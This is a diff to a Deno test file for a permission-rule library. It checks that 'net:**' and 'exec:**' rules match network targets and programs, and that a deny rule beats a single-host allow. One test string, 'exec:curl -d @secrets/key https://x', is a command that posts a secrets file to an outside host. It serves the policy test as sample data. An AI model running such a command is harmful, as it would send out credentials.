@@ -1,6 +1,7 @@
 import assert from "node:assert/strict";
 import { matchPattern, Rule } from "./rule.ts";
 import { RuleSyntaxError } from "./rule_syntax_error.ts";
+import { Policy } from "./policy.ts";
 import { escapeGlob } from "../patterns/escape.ts";
 import { prng } from "../patterns/_testing.ts";
 
@@ -381,4 +382,41 @@ Deno.test("an escaped name used as a rule matches only itself", () => {
       source,
     ]);
   }
+});
+
+Deno.test("net:** and exec:** take any network target and any program", async (t) => {
+  const targets: [string, boolean, boolean][] = [
+    ["net:https://example.com", true, false],
+    ["net:http://example.com:8080", true, false],
+    ["net:wss://a.b.example.com:1", true, false],
+    [String.raw`net:http://\[::1\]:9`, true, false],
+    ["net:http://127.0.0.1", true, false],
+    ["exec:curl -d @secrets/key https://x", false, true],
+    ["exec:sh", false, true],
+    ["read:secrets/key", false, false],
+    ["x-net:https://example.com", false, false],
+  ];
+  const net = new Rule("net:**");
+  const exec = new Rule("exec:**");
+  for (const [pattern, byNet, byExec] of targets) {
+    await t.step(pattern, () => {
+      assert.equal(net.test(pattern), byNet);
+      assert.equal(exec.test(pattern), byExec);
+    });
+  }
+  await t.step("net:*://** still leaves out explicit ports", () => {
+    assert.equal(
+      matchPattern("net:*://**", "net:http://example.com:8080"),
+      false,
+    );
+  });
+  await t.step("a deny of net:** beats an allow of one host", () => {
+    const policy = new Policy({
+      allow: ["net:https://example.com:8443"],
+      deny: ["net:**"],
+    });
+    const result = policy.evaluate(["net:https://example.com:8443"]);
+    assert.equal(result.decision, "deny");
+    assert.equal(result.patterns[0].rule, "net:**");
+  });
 });
